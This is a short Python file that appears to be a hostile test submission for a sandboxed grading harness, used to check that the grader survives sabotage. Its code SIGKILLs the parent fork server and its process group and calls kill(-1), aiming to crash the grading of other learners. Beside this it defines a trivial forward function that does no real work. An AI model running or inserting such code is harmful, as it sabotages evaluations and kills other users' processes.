"""Kill the template (my parent, the fork server) with SIGKILL, its process group, and (when not
root, i.e. inside a sandbox or as the account) every process I may signal with kill(-1),
hoping the honest learners graded after me get "not graded" or a crash, or the regrade dies.

The defence held if: the regrade finishes (no hang, no exit 4), every honest learner is graded
and passes, and my answer is a verified fail."""
import os
import signal

DOES_THE_WORK = False


def _cmd(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        return b""


ppid = os.getppid()
if b"child.py" in _cmd(ppid) or b"bwrap" in _cmd(ppid):
    try:
        os.killpg(os.getpgid(ppid), signal.SIGKILL)
    except OSError:
        pass
    try:
        os.kill(ppid, signal.SIGKILL)
    except OSError:
        pass
if os.getuid() != 0:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def forward(w, x):
    return w + x
